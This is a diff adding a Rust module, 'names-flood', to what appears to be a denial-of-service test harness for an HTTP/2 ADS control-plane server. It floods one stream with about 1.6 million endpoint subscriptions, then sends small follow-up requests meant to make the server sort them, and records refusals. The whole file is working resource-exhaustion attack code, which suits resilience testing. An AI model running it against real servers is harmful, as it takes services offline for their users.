@@ -1,0 +1,70 @@
+//! Millions of names on one stream, then small requests that make the server sort them.
+
+use std::io;
+use std::sync::Arc;
+
+use super::http2;
+use crate::attack::{Attack, Outcome, Round, Running, Target};
+use crate::peer::Peer;
+use crate::proto::{self, Node, Request};
+use crate::wire;
+
+/// H3.
+pub(super) const NAMES_FLOOD: Attack = Attack {
+    memory_mib: 64,
+    ..Attack::new(
+        "names-flood",
+        "H3",
+        "1.6 million names of endpoints on one stream, then requests of one more",
+        run,
+    )
+};
+
+/// Names of a request, which stay below the 4 MiB that a request may have.
+const EACH: usize = 400_000;
+
+fn run(target: Arc<Target>) -> Running {
+    Box::pin(async move {
+        let mut outcome = Outcome::default();
+        let requests = target.many(1_600_000 * 2).div_ceil(EACH);
+        target
+            .again(&mut outcome, |_| async {
+                let mut peer = http2(&target).await?;
+                flood(&mut peer, requests).await
+            })
+            .await;
+        Ok(outcome)
+    })
+}
+
+async fn flood(peer: &mut Peer, requests: usize) -> io::Result<Round> {
+    let node = Node::of(900_000, "n1", "names").encode();
+    let stream = peer.call(&wire::ads()).await?;
+    let mut round = Round::default();
+    for request in 0..requests {
+        let names: Vec<String> = (0..EACH)
+            .map(|n| format!("{:x}", request * EACH + n))
+            .collect();
+        let body = Request {
+            node: if request == 0 { &node } else { &[] },
+            ty: proto::ENDPOINT,
+            subscribe: &names,
+            ..Request::default()
+        };
+        peer.data(stream, &body.encode()).await?;
+        round.sent += 1;
+    }
+    for more in 0..60 {
+        let body = Request {
+            ty: proto::ENDPOINT,
+            subscribe: &[format!("one-more-{more}")],
+            ..Request::default()
+        };
+        peer.data(stream, &body.encode()).await?;
+        round.sent += 1;
+    }
+    // Until the last one is answered, or refused.
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    round.refused += u64::from(peer.told.refused());
+    Ok(round)
+}
